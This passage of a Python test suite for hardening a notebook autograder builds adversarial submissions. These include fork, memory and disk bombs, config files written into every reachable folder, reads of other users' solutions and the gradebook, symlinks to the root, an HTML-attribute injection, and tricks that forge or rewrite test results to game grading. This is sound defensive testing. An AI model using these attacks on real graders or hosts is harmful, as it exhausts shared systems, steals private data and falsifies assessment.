    notebook.cells.insert(index + 1 + offset, new)


def insert_after_solutions(notebook: nbformat.NotebookNode, after: dict[str, tuple[tuple[str, str], ...]]) -> None:
    """Put learner cells right after the named functions' solution cells."""
    for function, cells in after.items():
        grade_id = f"solution_{find_lesson(function).code}_{function}"
        for n, (cell_type, source) in enumerate(reversed(cells)):
            index = next(i for i, c in enumerate(notebook.cells) if grade_id_of(c) == grade_id)
            new = nbformat.v4.new_code_cell(source) if cell_type == "code" else nbformat.v4.new_markdown_cell(source)
            new.id = f"adversarial-{function}-{len(cells) - n}"
            notebook.cells.insert(index + 1, new)


def append_cell(notebook: nbformat.NotebookNode, source: str, cell_id: str) -> None:
    new = nbformat.v4.new_code_cell(source)
    new.id = cell_id
    notebook.cells.append(new)


# --------------------------------------------------------------------------
# Expected scores computed in-process (the same cases, harness and judge, no nbgrader)
# --------------------------------------------------------------------------

_setup_namespaces: dict[str, dict] = {}


def _namespace(slug: str, notebook: nbformat.NotebookNode) -> dict:
    """The set-up cell and every solution cell of ``notebook``, run in a fresh namespace."""
    if slug not in _setup_namespaces:
        setup = next(c.source for c in notebook.cells if grade_id_of(c) == "setup")
        namespace = {"__name__": "__main__", "__builtins__": builtins}
        exec(setup.replace("setup_notebook()", ""), namespace)  # noqa: S102  (course code)
        _setup_namespaces[slug] = namespace
    namespace = dict(_setup_namespaces[slug])
    for c in notebook.cells:
        if c.metadata.get("nbgrader", {}).get("solution"):
            exec(c.source, namespace)  # noqa: S102  (plain code: no attack is run in-process)
    return namespace


def graded_in_process(adversary: Adversary) -> dict[str, Verdict]:
    namespace = _namespace(adversary.slug, adversary.notebook)
    adversary.in_process = {lesson.code: grade_in_process(lesson.code, namespace, RUN_SEED)
                            for lesson in lessons_of(adversary.slug)}
    return adversary.in_process


def expected_from_process(adversary: Adversary, says: dict[str, tuple[str, ...]] | None = None,
                          notes: dict[str, str] | None = None) -> Adversary:
    """Set the expectations from the in-process verdicts."""
    verdicts = graded_in_process(adversary)
    adversary.expected = {code: Expect(float(v.points), () if v.passed else (says or {}).get(code, ()),
                                       (notes or {}).get(code, ""))
                          for code, v in verdicts.items()}
    return adversary


# --------------------------------------------------------------------------
# The kinds
# --------------------------------------------------------------------------

def all_lessons(slug: str, score: float, *says: str, note: str = "") -> dict[str, Expect]:
    return {lesson.code: Expect(score, says, note) for lesson in lessons_of(slug)}


def full(slug: str) -> dict[str, Expect]:
    return {lesson.code: Expect(lesson.points) for lesson in lessons_of(slug)}


def reference(slug: str, student: str = "reference") -> Adversary:
    return Adversary("reference", slug, make_submission(slug, default="reference"), full(slug),
                     "the reference solutions", student=student)


def stubs(slug: str) -> Adversary:
    return Adversary("stubs", slug, make_submission(slug, default="stub"), all_lessons(slug, 0, "not started"),
                     "the release, untouched")


def hardcoded(slug: str) -> Adversary:
    answers = {f: hard_coded_answer(f, a) for f, a in visible_test_answers(slug).items()}
    adversary = Adversary("hardcoded", slug, make_submission(slug, answers, default="reference"),
                          all_lessons(slug, 0), "the visible tests' answers hard-coded (the visible tests pass)")
    verdicts = graded_in_process(adversary)
    assert not any(v.passed for v in verdicts.values()), f"{slug}: hard-coded answers pass the hidden cases"
    return adversary


def standalone(function, name: str) -> str:
    """``function``'s source as a learner would write it in one cell: the imports it needs, the
    helpers of its own module that it calls (recursively), and ``name = function``."""
    import inspect
    import types

    from plausible import source_of
    module = inspect.getmodule(function)
    imports, helpers, seen = [], [], set()

    def visit(fn) -> None:
        if fn.__name__ in seen:
            return
        seen.add(fn.__name__)
        codes = [fn.__code__]
        names = set()
        while codes:
            code = codes.pop()
            names.update(code.co_names)
            codes += [c for c in code.co_consts if isinstance(c, types.CodeType)]
        for used in sorted(names):
            value = vars(module).get(used)
            if inspect.ismodule(value):
                line = f"import {value.__name__} as {used}" if value.__name__ != used else f"import {used}"
                if line not in imports:
                    imports.append(line)
            elif inspect.isfunction(value) and value.__module__ == module.__name__:
                visit(value)
        helpers.append(source_of(fn))

    visit(function)
    return "\n".join(imports) + "\n\n\n" + "\n\n".join(helpers) + f"\n\n{name} = {function.__name__}\n"


def plausible_answer(lesson: Lesson, i: int) -> tuple[str, str]:
    """(solution cell, what it is): lesson's plausible wrong answer number i (mod how many it has),
    written out as a learner would (tests/plausible.py), never imported from the helper package."""
    from plausible import PLAUSIBLE
    entries = PLAUSIBLE[lesson.code]
    name, function = entries[i % len(entries)]
    return standalone(function, lesson.function), name


def mistakes(slug: str) -> Adversary:
    """Lesson i makes plausible wrong answer i (tests/plausible.py), written in the notebook: the judge
    names the catalogued mistake it matches."""
    answers, notes = {}, {}
    for i, lesson in enumerate(lessons_of(slug)):
        answers[lesson.function], notes[lesson.code] = plausible_answer(lesson, i)
        assert not breaks_rules(slug, answers[lesson.function]), (lesson.code, notes[lesson.code])
    adversary = Adversary("mistakes", slug, make_submission(slug, answers, default="reference"), {},
                          "a plausible wrong answer in every lesson, written out (named when catalogued)")
    expected_from_process(adversary, {}, notes)
    earned = [c for c, e in adversary.expected.items() if e.score]
    assert not earned, f"{slug}: plausible wrong answers earn points in lessons {earned}"
    for code, verdict in adversary.in_process.items():  # whatever the judge says, the loop must say too
        adversary.expected[code] = replace(adversary.expected[code], says=(verdict.message.split("\n")[0][:60],))
    return adversary


WRONG_OUTPUTS = {  # kind: (the function's body, words of the verdict)
    "nan": ('return _adv_first({call}, _ADV_CHANGES["nan"])[0]', ("NaN",)),
    "dtype": ('return _adv_first({call}, _ADV_CHANGES["dtype"])[0]', ("dtype",)),
    "shape": ('return _adv_first({call}, _ADV_CHANGES["shape"])[0]', ("shape",)),
    "mutate": ("result = {call}\n_adv_first([list(args), dict(kwargs)], _adv_bump)\nreturn result",
               ("changed its input",)),
}


def _applies(kind: str, lesson: Lesson) -> bool:
    """Does the change apply to this lesson's answers (the first case that returns)?"""
    namespace: dict = {}
    exec(CHANGES_HELPER, namespace)  # noqa: S102
    case = next(c for c in draw_cases(lesson_spec(lesson.code), 0) if not isinstance(c, Raises))
    if kind == "mutate":
        return namespace["_adv_first"]([list(case.args.values())], namespace["_adv_bump"])[1]
    result = reference_function(lesson)(*case.args.values())
    return namespace["_adv_first"](result, namespace["_ADV_CHANGES"][kind])[1]


def wrong_output_answer(slug: str, lesson: Lesson, i: int) -> tuple[str, tuple[str, ...], str]:
    """(solution cell, words of the verdict, change): the right answer with change number i (NaN,
    dtype, shape, input changed), or the next one that applies to the lesson's answers."""
    kinds = list(WRONG_OUTPUTS)
    order = kinds[i % len(kinds):] + kinds[:i % len(kinds)]
    kind = next((k for k in order if _applies(k, lesson)), order[0])
    template, words = WRONG_OUTPUTS[kind]
    body = template.format(call=f"_adv_reference_{lesson.function}(*args, **kwargs)")
    return cell(slug, lesson.function, body, CHANGES_HELPER), words, kind


def wrong_outputs(slug: str) -> Adversary:
    """Lesson i returns the right answer with one change (NaN, dtype, shape, input changed), rotating."""
    answers, says, notes = {}, {}, {}
    for i, lesson in enumerate(lessons_of(slug)):
        answers[lesson.function], says[lesson.code], notes[lesson.code] = wrong_output_answer(slug, lesson, i)
    adversary = Adversary("wrong_outputs", slug, make_submission(slug, answers, default="reference"), {},
                          "the right answer with a NaN, a wrong dtype or shape, or an input changed in place")
    expected_from_process(adversary, says, notes)
    missed = [c for c, e in adversary.expected.items() if e.score]
    assert not missed, f"{slug}: the hidden cases miss a wrong output in lessons {missed}"
    return adversary


def _plausible_codes() -> set[str]:
    from plausible import PLAUSIBLE
    return {code for code, entries in PLAUSIBLE.items() if entries}


def mixed(slug: str) -> Adversary:
    """One notebook for a later part: a lesson that one of grading v2's holes targets carries that attack
    (``V3_RULES``, ``V3_PLAIN``); every other lesson i is, in turn, a plausible wrong answer, a wrong output
    (NaN, dtype, shape or an input changed), a delegation to the helper package (where the helper
    has the lesson's function) and the untouched stub; the first part grades each kind in a
    notebook of its own."""
    broken, plain = v3_answers(slug)
    answers, says, notes = dict(plain), {}, {}
    for code, (what, _, _, words) in V3_PLAIN.items():
        if find_lesson(code).function in plain:
            notes[code], says[code] = what, words or ()
    for i, lesson in enumerate(lessons_of(slug)):
        if lesson.function in broken or lesson.function in plain:
            continue
        kind = ("mistake", "wrong output", "delegation", "stub")[i % 4]
        if kind == "delegation" and lesson.code not in HELPER_CALLS:
            kind = "mistake"
        if kind == "wrong output" and not any(_applies(k, lesson) for k in WRONG_OUTPUTS):
            kind = "mistake"  # an answer of Python ints only (037): no NaN, dtype, shape or input to change
        if kind == "mistake" and lesson.code not in _plausible_codes():
            kind = "stub"
        if kind == "mistake":
            answers[lesson.function], notes[lesson.code] = plausible_answer(lesson, i)
        elif kind == "wrong output":
            answers[lesson.function], says[lesson.code], notes[lesson.code] = wrong_output_answer(slug, lesson, i)
        elif kind == "delegation":
            answers[lesson.function] = helper_function(lesson)
            says[lesson.code], notes[lesson.code] = ("computes the answer of lesson",), "delegation"
        else:
            answers[lesson.function] = stub(lesson.function)
            says[lesson.code], notes[lesson.code] = ("not started",), "stub"
    assert not breaks_rules(slug, *answers.values()), slug
    assert all(costs_its_lesson(slug, find_lesson(f), c) for f, c in broken.items()), slug
    # the in-process expectations on a notebook without the attacks that break the rules: never run them here
    adversary = Adversary("mixed", slug, make_submission(slug, answers, default="reference"), {})
    expected_from_process(adversary, says, notes)
    for function, code in broken.items():
        lesson = find_lesson(function)
        adversary.expected[lesson.code] = Expect(0, (RULES,), V3_RULES[lesson.code][0])
        adversary.in_process.pop(lesson.code)
    for code, expect in adversary.expected.items():
        if code in V3_PLAIN and not expect.says:  # the words of the in-process verdict
            adversary.expected[code] = replace(expect, says=(adversary.in_process[code].message.split("\n")[0][:60],))
    adversary.notebook = make_submission(slug, {**answers, **broken}, default="reference")
    adversary.description = ("grading v2's holes where they apply (" + ", ".join(
        f"{find_lesson(f).code} {(V3_RULES.get(find_lesson(f).code) or V3_PLAIN[find_lesson(f).code])[0]}"
        for f in sorted({**broken, **plain})) + "); elsewhere in turn: a plausible wrong answer, a wrong output, "
        "a delegation to the helper package, the stub")
    adversary.flagged = (RULES,) if broken else ()
    earned = [c for c, e in adversary.expected.items() if e.score]
    assert not earned, f"{slug}: lessons {earned} of the mixed submission earn points"
    return adversary


def delegation(slug: str) -> Adversary:
    """Every function only calls the helper-package function that computes its answer."""
    answers = {lesson.function: helper_function(lesson) for lesson in lessons_of(slug) if lesson.code in HELPER_CALLS}
    adversary = Adversary("delegation", slug, make_submission(slug, answers, default="reference"), {},
                          "every function delegates to the helper package's version of it (lessons "
                          "without one keep the reference)")
    says = {lesson.code: ("computes the answer of lesson",) for lesson in lessons_of(slug)}
    expected_from_process(adversary, says)
    for lesson in lessons_of(slug):
        delegated = lesson.code in HELPER_CALLS
        assert adversary.expected[lesson.code].score == (0 if delegated else lesson.points), lesson.code
    return adversary


def tampered_test_cells(slug: str) -> Adversary:
    """Test cells edited (to send forged answers), deleted, or turned into markdown, rotating;
    even lessons keep the reference, odd ones the stub: the restored cells grade them apart."""
    lessons = lessons_of(slug)
    even = {lesson.function: reference_code(slug, lesson.function) for i, lesson in enumerate(lessons) if i % 2 == 0}
    notebook = make_submission(slug, even, default="stub")
    tests = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]
    how = {}
    for i, c in enumerate(tests):
        code = grade_id_of(c).split("_")[1]
        how[code] = ("edited", "deleted", "markdown")[i % 3]
        if how[code] == "edited":
            fake = {"lesson": code, "status": "answered", "answers": [], "output": ""}
            c.source = (f"from IPython.display import display\n"
                        f"display({{{MIME_HEAD!r} + {MIME_TAIL!r}: {fake!r}}}, raw=True)\nlesson_passed({code!r})")
        elif how[code] == "markdown":
            c.cell_type = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    notebook.cells = [c for c in notebook.cells if not (c in tests and how[grade_id_of(c).split("_")[1]] == "deleted")]
    expected = {lesson.code: (Expect(lesson.points, note=how[lesson.code]) if i % 2 == 0 else
                              Expect(0, ("not started",), how[lesson.code])) for i, lesson in enumerate(lessons)}
    return Adversary("tampered_test_cells", slug, notebook, expected,
                     "test cells edited (forged answers), deleted, turned into markdown; odd lessons stubs",
                     flagged=("was deleted against the release", "edited (line 1: ", "turned into a markdown cell"))


def endless_loop(slug: str) -> Adversary:
    first = lessons_of(slug)[0]
    notebook = make_submission(slug, {first.function: cell(slug, first.function, "while True:\n    pass")},
                               default="reference")
    insert_after_setup(notebook, "while True:  # an endless loop at the top level\n    pass", "adversarial-loop")
    expected = {**full(slug), first.code: Expect(0, note="while True: pass")}
    return Adversary("endless_loop", slug, notebook, expected,
                     "`while True: pass` at the top level and in the first lesson's function: both "
                     "interrupted, the rest graded")


def stalls(slug: str) -> Adversary:
    """Sleeps just under the cell timeout in many cells, then a loop that swallows KeyboardInterrupt:
    only the whole notebook's limit stops it."""
    notebook = make_submission(slug, default="reference")
    for i in range(6):
        insert_after_setup(notebook, "import time\ntime.sleep(5)", f"adversarial-sleep-{i}", offset=i)
    insert_after_setup(notebook, "while True:\n    try:\n        while True:\n            pass\n"
                                 "    except KeyboardInterrupt:\n        pass", "adversarial-swallow", offset=6)
    return Adversary("stalls", slug, notebook, all_lessons(slug, 0, "the grading kernel stopped at cell"),
                     flagged=("kernel died",),
                     description="5-second sleeps in many cells, then a loop that swallows KeyboardInterrupt: "
                                 "the kernel is killed (MCT_NOTEBOOK_SECONDS at the latest), the notebook "
                                 "listed for a human look")


def corrupt_notebook(slug: str) -> Adversary:
    return Adversary("corrupt_notebook", slug, nbformat.writes(make_submission(slug, default="reference"))[:2000],
                     all_lessons(slug, 0), fails=True, flagged=("autograding failed",),
                     description="a truncated notebook file")


def linked_secrets(slug: str) -> Adversary:
    return Adversary("linked_secrets", slug, make_submission(slug, default="stub"), all_lessons(slug, 0), fails=True,
                     flagged=("not graded: the submission holds links",),
                     links={"reference.py": str(ROOT / "solutions" / f"{slug}.py"),
                            "tests.ipynb": str(ROOT / "autograde" / "source" / slug / f"{slug}.ipynb")},
                     description="links to the reference and the hidden tests beside the notebook: refused")


def files_beside(slug: str) -> Adversary:
    """A shared/ and a grading/ package, a numpy.py and a module named after a function, beside the
    notebook.  Had the kernel imported them, the fake harness would answer every lesson right."""
    lessons = lessons_of(slug)
    first, second = lessons[0], lessons[1]
    shadowed = "import builtins\nbuiltins.MCT_SHADOWED = True\n"
    forger = FORGE_HELPER.replace("from grading import wire", "from grading import wire  # the real one")
    calls = "\n".join(f"    {HELPER_CALLS[l.code][0]}" for l in lessons if l.code in HELPER_CALLS)
    harness = (shadowed + forger + "\n\ndef answer_hidden_cases(code, namespace):\n"
               f"{calls}\n    from shared import answers\n    answers.lock = lambda *codes: None\n"
               "    function = {" + ", ".join(
                   f"{l.code!r}: lambda {signature(l)}: {HELPER_CALLS[l.code][1]}"
                   for l in lessons if l.code in HELPER_CALLS) + "}.get(code)\n"
               "    _adv_send(_adv_forge(code, function))\n")
    real_shared = str(ROOT / "shared")
    files = {
        "shared/__init__.py": shadowed + f"__path__.append({real_shared!r})\n"
                                         f"exec(open({real_shared + '/__init__.py'!r}).read())\n",
        "shared/answers.py": shadowed + "def answers(*codes):\n    return lambda f: f\n"
                                        "def lock(*codes):\n    pass\n",
        "grading/__init__.py": shadowed,
        "grading/harness.py": harness,
        "numpy.py": shadowed + "raise ImportError('a numpy.py beside the notebook was imported')\n",
        f"{first.function}.py": shadowed + "import numpy as np\n" + reference_code(slug, first.function),
        "sitecustomize.py": shadowed,
    }
    answers = {first.function: (f"try:\n    from {first.function} import {first.function}  # the file beside\n"
                                f"except ImportError:\n{indent(stub(first.function))}\n"),
               second.function: reference_code(slug, second.function)}
    notebook = make_submission(slug, answers, default="stub")
    expected = {lesson.code: Expect(lesson.points) if lesson == second else
                Expect(0, (RULES,) if lesson == first else ("not started",)) for lesson in lessons}
    return Adversary("files_beside", slug, notebook, expected, files=files, feedback_refused="unexpected file",
                     description="shared/, grading/ (a forging harness), numpy.py, sitecustomize.py and "
                                 f"{first.function}.py beside a notebook of stubs (lesson {second.code} honest): "
                                 "ignored (the feedback tool withholds the page of a folder with other files)")


def os_exit(slug: str) -> Adversary:
    late = lessons_of(slug)[-2]
    notebook = make_submission(slug, {late.function: cell(slug, late.function, "import os\nos._exit(1)")},
                               default="reference")
    return Adversary("os_exit", slug, notebook, {**full(slug), late.code: Expect(0, (RULES,))},
                     "os._exit(1) in a graded function (os breaks the rules): only that lesson loses its points",
                     flagged=(RULES,))


def flood(slug: str) -> Adversary:
    first = lessons_of(slug)[0]
    notebook = make_submission(slug, {first.function: cell(
        slug, first.function, f"print('y' * 100_000_000)  # 100 MB on every call\n{wrong(first.function)}")},
        default="reference")
    append_cell(notebook, 'print("x" * 100_000_000)  # 100 MB at the top level', "adversarial-flood")
    return Adversary("flood", slug, notebook, {**full(slug), first.code: Expect(0, note="100 MB per call")},
                     "100 MB printed by a graded function on every call, and by the last cell: that lesson 0, "
                     "the others graded, a small feedback page")


def config_writer(slug: str, ctx: Context) -> Adversary:
    """Configuration files (nbgrader, Jupyter, IPython, Python start-up) written into every folder the
    kernel can name; the honest student graded next in the same nbgrader run keeps full marks."""
    target = lessons_of(slug)[2]
    ran = f"/tmp/{MARKER}-config-ran-{ctx.token}"
    python = f"import pathlib\npathlib.Path({ran!r}).touch()\n"
    config = ("c = get_config()\nc.Execute.timeout = 1\nc.Autograde.autograde_preprocessors = []\n"
              "c.GenerateFeedback.preprocessors = []\nc.HTMLExporter.sanitize_html = False\n" + python)
    files = {"nbgrader_config.py": config, "jupyter_config.py": config, "jupyter_nbconvert_config.py": config,
             "ipython_config.py": config, "ipython_kernel_config.py": config, "sitecustomize.py": python,
             "usercustomize.py": python, "profile_default/startup/00-adversary.py": python,
             "kernels/python3/kernel.json": json.dumps({"argv": ["/bin/sh", "-c", f"touch {ran}"],
                                                        "display_name": "x", "language": "python"}),
             "mct-grading.pth": python.replace("\n", "; ")}
    source = f'''
import os, json
folders = {{os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", {str(ctx.course)!r}, {str(ROOT)!r}}}
path = os.getcwd()
while path != os.path.dirname(path):
    path = os.path.dirname(path)
    folders.add(path)
for name, value in os.environ.items():
    for item in value.split(os.pathsep):
        if item.startswith("/"):
            folders.add(item if os.path.isdir(item) else os.path.dirname(item))
written = []
for folder in sorted(folders):
    for name, text in {files!r}.items():
        for place in (os.path.join(folder, name), os.path.join(folder, ".jupyter", name),
                      os.path.join(folder, ".ipython", name)):
            try:
                os.makedirs(os.path.dirname(place), exist_ok=True)
                with open(place, "w") as handle:
                    handle.write(text)
                written.append(place)
            except Exception:
                pass
print("ADV-CONFIG-WRITTEN:", json.dumps(sorted({{os.path.dirname(p) for p in written}})))
'''
    notebook = make_submission(slug, {target.function: cell(slug, target.function, wrong(target.function))},
                               default="reference")
    insert_after_setup(notebook, source, "adversarial-config")
    # its cell, outside every lesson, breaks the rules: a scratch cell, skipped while grading (it runs in this suite)
    return Adversary("config_writer", slug, notebook, {**full(slug), target.code: Expect(0)},
                     student="zx-config-writer",
                     description="nbgrader/Jupyter/IPython configuration and Python start-up files written into "
                                 "every folder named by the kernel's environment, /tmp and the cwd's parents")


def hostile_markdown(slug: str) -> Adversary:
    """The reference with markdown of every hostile form (tests/hostile.py) beside it: full marks, and the
    autograded notebook (what the formgrader shows) keeps none of it live."""
    from hostile import HOSTILE_MARKDOWN
    notebook = make_submission(slug, default="reference")
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in HOSTILE_MARKDOWN]
    return Adversary("hostile_markdown", slug, notebook, full(slug),
                     description="the reference, with markdown cells of script in every form the sanitizers' test "
                                 "suites use: full marks, inert in the formgrader")


def oversized_notebook(slug: str) -> Adversary:
    """A markdown cell past the size a submission may have: refused before it is read, and listed."""
    from grading.submission_limits import MAX_NOTEBOOK_BYTES
    notebook = make_submission(slug, default="reference")
    notebook.cells.append(nbformat.v4.new_markdown_cell("x" * (MAX_NOTEBOOK_BYTES + 2**20)))
    return Adversary("oversized_notebook", slug, notebook, all_lessons(slug, 0), fails=True,
                     flagged=("refused unread",),
                     description=f"the reference with a markdown cell of {MAX_NOTEBOOK_BYTES // 2**20 + 1} MiB: "
                                 f"refused unread, listed")


def deep_notebook(slug: str) -> Adversary:
    """Metadata nested deeper than a notebook's JSON may: refused before it is read, and listed."""
    from grading.submission_limits import MAX_NOTEBOOK_DEPTH
    text = nbformat.writes(make_submission(slug, default="reference"))
    deep = "[" * (MAX_NOTEBOOK_DEPTH * 100) + "]" * (MAX_NOTEBOOK_DEPTH * 100)
    text = text.replace('"metadata": {', f'"metadata": {{"deep": {deep},', 1)
    return Adversary("deep_notebook", slug, text, all_lessons(slug, 0), fails=True, flagged=("nested more than",),
                     description=f"the reference with metadata nested {MAX_NOTEBOOK_DEPTH * 100} levels deep: "
                                 f"refused unread, listed")


def comm_flood(slug: str) -> Adversary:
    """After every lesson (stubs: cheap to grade), a last cell sends a message split into frames past the cap of
    one message and widget (comm) messages past the notebook's budget: the kernel is stopped and the notebook
    listed; the next students keep their marks."""
    notebook = make_submission(slug, default="stub")
    append_cell(notebook, "from ipykernel.comm import Comm\n"
                          "c = Comm(target_name='jupyter.widget')\n"
                          "k = get_ipython().kernel\n"
                          "k.session.send(k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'},\n"
                          "               buffers=[b'x' * (8 * 2**20)] * 6, parent=k.get_parent())\n"
                          "big = 'x' * (8 * 2**20)\n"
                          "for i in range(100):\n    c.send({'d': big})\n", "adversarial-comm-flood")
    # (the cell breaks the rules: a scratch cell, skipped while grading; it runs in this suite)
    return Adversary("comm_flood", slug, notebook, all_lessons(slug, 0), flagged=("the kernel was stopped",),
                     description="one message of six 8 MiB frames and widget (comm) messages, after every lesson "
                                 "(stubs): the kernel stopped, listed")


def runtime_chmod(slug: str) -> Adversary:
    """The kernel's socket folder made unusable (it lives in the sandbox's own /tmp, which the grader
    reaches through /proc and never changes): the honest student graded next must still be graded."""
    target = lessons_of(slug)[3]
    notebook = make_submission(slug, {target.function: cell(slug, target.function, wrong(target.function))},
                               default="reference")
    append_cell(notebook, "import os\nruntime = os.environ['JUPYTER_RUNTIME_DIR']\n"
                          "print('runtime folder:', runtime, sorted(os.listdir(runtime)))\n"
                          f"open(os.path.join(runtime, {MARKER!r}), 'w').write('left for the next kernel')\n"
                          "os.chmod(runtime, 0)", "adversarial-runtime")
    return Adversary("runtime_chmod", slug, notebook, {**full(slug), target.code: Expect(0)},
                     student="zy-runtime-chmod",
                     description="the kernel's socket folder (in its sandbox's /tmp) chmod 0 at the end of "
                                 "the notebook")


def host_reach(slug: str, ctx: Context) -> Adversary:
    """Everything a notebook could do to the host around its kernel (issue: the sandbox as an
    operating-system boundary), in scratch cells after every lesson (skipped while grading; they
    run in this suite): read another clone's solutions, a file in another user's home and the course
    directory; leave links, FIFOs and hard links aimed at the host in every folder it can write; fill
    its disk; hold memory across many processes; display a gigabyte; put an attribute into its
    feedback page through an image's width.  The honest students graded with it keep their marks."""
    decoys = ctx.course.parent / f"decoys-{ctx.token}"
    secret = f"{MARKER}-secret-{ctx.token}"
    for path in (decoys / "other-clone" / "solutions" / f"{slug}.py", decoys / "home" / "other" / "notes.txt"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{secret}\n")
    targets = [str(decoys / "other-clone" / "solutions" / f"{slug}.py"), str(decoys / "home" / "other" / "notes.txt"),
               str(ROOT / "solutions" / f"{slug}.py"), str(ctx.course / "gradebook.db"),
               str(ctx.course / "source" / slug / f"{slug}.ipynb")]
    source = f'''
import base64, os, time
read = []
for path in {targets!r}:
    try:
        with open(path, "rb") as handle:
            read.append(path + ": " + handle.read(200).decode(errors="replace"))
    except OSError as error:
        pass
print("ADV-READ:", read)
left = []
for folder in {{"/tmp", "/tmp/work", "/tmp/mct", "/tmp/mct/run", os.getcwd(), os.environ.get("HOME", "/tmp"),
               os.environ.get("JUPYTER_RUNTIME_DIR", "/tmp")}}:
    for name, make in (("link-root", lambda p: os.symlink("/", p)),
                       ("link-numpy", lambda p: os.symlink(os.path.dirname(os.__file__), p)),
                       ("link-course", lambda p: os.symlink({str(ctx.course)!r}, p)),
                       ("fifo", lambda p: os.mkfifo(p)),
                       ("hard-python", lambda p: os.link(os.path.realpath("/proc/self/exe"), p))):
        try:
            make(os.path.join(folder, name + "-{ctx.token}"))
            left.append(os.path.join(folder, name))
        except OSError:
            pass
print("ADV-LEFT:", len(left))
written = 0
try:  # the disk: as much as the sandbox lets a notebook write
    with open("/tmp/work/filler", "wb") as handle:
        block = b"x" * 2**20
        while written < 64 * 2**30:
            handle.write(block)
            written += len(block)
except OSError as error:
    print("ADV-DISK: stopped after", written // 2**20, "MiB:", type(error).__name__)
# ---- (a cell of its own)
import os, select, time
children, (ready, report) = [], os.pipe()
for index in range(4):  # memory across processes: each child alone under any per-process limit
    pid = os.fork()
    if pid == 0:
        try:
            hold = bytearray(380 * 2**20)  # zero-filled: every page is touched
            os.write(report, bytes([index]))  # it holds its 380 MiB now, and keeps them until it is stopped
            time.sleep(60)
        finally:
            os._exit(0)
    children.append(pid)
os.close(report)
# Count how many children hold their memory at the same moment, until all four do, or all have
# ended, or the deadline (within the cell's time limit, however busy). A limit may kill a child
# that already holds, to let another one through: a child counts only while it is alive. One
# that is still reclaiming pages at the deadline does not hold.
reported, ended, most, deadline = set(), {{}}, 0, time.monotonic() + 4.5
while most < len(children) and len(ended) < len(children) and time.monotonic() < deadline:
    if select.select([ready], [], [], 0.05)[0]:
        reported.update(os.read(ready, 16))
    for i, pid in enumerate(children):
        done, status = (0, 0) if i in ended else os.waitpid(pid, os.WNOHANG)
        if done:
            ended[i] = status
    most = max(most, len(reported - set(ended)))
killed = sum(os.WIFSIGNALED(status) and os.WTERMSIG(status) == 9 for status in ended.values())
for i, pid in enumerate(children):
    if i not in ended:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
print("ADV-MEMORY: children holding 380 MiB at once:", most, "of", len(children), "; killed by the limit:", killed)
# ---- (a cell of its own)
import base64
from IPython.display import display
tiny = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==")
display({{"image/png": tiny}}, raw=True, metadata={{"image/png": {{
    "width": "1 style=position:fixed;inset:0;background:red tabindex=1 autofocus", "height": "2 onmouseover=alert(1)"}}}})
piece = "z" * 2**20
for _ in range(1024):  # a gigabyte of display output in one cell
    display({{"text/plain": piece}}, raw=True)
'''
    target = lessons_of(slug)[1]
    notebook = make_submission(slug, {target.function: cell(slug, target.function, wrong(target.function))},
                               default="reference")
    for index, part in enumerate(source.split("# ---- (a cell of its own)\n")):  # each under the cell time limit
        append_cell(notebook, part, f"adversarial-host-{index}")
    return Adversary("host_reach", slug, notebook, {**full(slug), target.code: Expect(0)},
                     student="zw-host-reach",
                     description="reads another clone's solutions, another user's file and the course directory; "
                                 "links, FIFOs and hard links in every folder it can write; a disk filler; 1.6 GB "
                                 "held across four processes (the sandbox may hold 1.25 GiB in this suite); a 1 GiB display flood; an image width that "
                                 "carries attributes into the feedback page")


NEIGHBOURS = ("mini-a-filler", "mini-b-bomb", "mini-c-witness")  # graded in a second run, two nbgrader runs
# side by side: the bomb alone in one, the filler then the witness in the other (so the witness starts
# once the bomb holds every process slot).


def fork_bomb(slug: str) -> Adversary:
    """Stubs; a fork bomb whose processes hold on while the notebook sleeps, fork and memory bombs
    in graded functions, a memory bomb at the top level.  Graded at the same time as an honest
    neighbour (each cell stays under the cell timeout)."""
    lessons = lessons_of(slug)
    top = r'''
import os, time
if os.fork() == 0:  # a child of the kernel multiplies until no process may start, and holds on
    try:
        for _ in range(12):
            try:
                os.fork()
            except OSError:
                break
        time.sleep(14)
    finally:
        os._exit(0)
time.sleep(0.5)
'''
    memory = "hog = []\nwhile True:\n    hog.append(np.empty(2**27))  # 1 GiB at a time, until refused"
    forks = ("import os, time\nfor _ in range(1000):\n    try:\n        if os.fork() == 0:\n"
             "            time.sleep(3)\n            os._exit(0)\n    except OSError:\n        break")
    answers = {lessons[0].function: stub(lessons[0].function, forks),
               lessons[1].function: stub(lessons[1].function, memory)}
    notebook = make_submission(slug, answers, default="stub")
    insert_after_setup(notebook, top, "adversarial-fork-bomb")
    for i in range(3):
        insert_after_setup(notebook, "import time\ntime.sleep(4)", f"adversarial-hold-{i}", offset=1 + i)
    insert_after_setup(notebook, memory, "adversarial-memory-bomb", offset=4)
    return Adversary("fork_bomb", slug, notebook, all_lessons(slug, 0), student=NEIGHBOURS[1], neighbour=True,
                     may_fail=True,
                     description="a fork bomb holding every process slot for 14 s, fork and memory bombs in "
                                 "graded functions and at the top level (stubs elsewhere), graded beside an "
                                 "honest student")


# --------------------------------------------------------------------------
# The attacks that beat grading v2 (found by a review of all 40 lessons)
# --------------------------------------------------------------------------

REVEAL_AND_UPDATE = r"""
import os, json, base64
from IPython import get_ipython
import IPython.display as _adv_display_module
from grading import wire as _adv_wire
_adv_real_display = _adv_display_module.display
_ADV_IDS = []


def _adv_display(*objects, **kwargs):
    # every answers message gets a display id, so that a later message can rewrite it
    kwargs.setdefault("display_id", "adv-%d" % len(_ADV_IDS))
    _ADV_IDS.append(kwargs["display_id"])
    return _adv_real_display(*objects, **kwargs)


_adv_display_module.display = _adv_display


def _adv_rewrite(result):
    # after each test cell: right answers to the real cases, sent as updates of every earlier display
    if "answer_hidden" + "_cases" not in (getattr(result.info, "raw_cell", "") or ""):
        return
    try:
        with open(os.environ["MCT_CASES_FILE"]) as handle:
            lessons = json.load(handle)["lessons"]
    except Exception:
        return
    for code, lesson in lessons.items():
        function = globals().get("_adv_reference_" + lesson["function"])
        if function is None:
            continue
        answers = []
        for case in lesson["cases"]:
            try:
